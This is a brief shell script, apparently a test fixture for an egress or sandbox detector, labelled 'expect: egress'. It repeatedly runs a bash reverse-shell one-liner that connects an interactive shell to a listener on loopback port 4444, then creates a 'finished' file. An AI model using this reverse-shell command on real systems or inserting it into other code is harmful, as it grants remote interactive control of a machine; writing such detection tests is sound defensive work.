#!/bin/sh
# expect: egress
# Reverse shell: an interactive shell wired to a listener on loopback.
for round in $(seq 1 50); do
  bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null
  sleep 0.1
done
touch finished
